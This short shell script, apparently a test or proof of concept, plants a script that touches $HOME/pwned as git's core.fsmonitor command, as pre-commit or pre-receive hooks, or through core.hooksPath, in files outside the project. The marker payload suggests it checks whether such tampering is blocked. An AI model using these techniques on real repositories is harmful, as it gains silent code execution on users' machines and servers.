# Changes files outside of the project that git's settings name. $1 names the attack.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
case $1 in
include) printf '[core]\n\tfsmonitor = %s\n' "$evil" >>~/.cache/settings ;;
include-missing) printf '[core]\n\tfsmonitor = %s\n' "$evil" >~/.cache/missing ;;
hooks) cp evil.sh ~/.cache/hooks/pre-commit ;;
push) cp evil.sh "$2/hooks/pre-receive" ;;
push-moved) mv "$2" "$2.aside" && cp -r "$2.aside" "$2" && cp evil.sh "$2/hooks/pre-receive" ;;
push-settings) git -C "$2" config core.hooksPath "$PWD/deep" && mkdir deep && cp evil.sh deep/pre-receive ;;
*) exit 1 ;;
esac
echo done
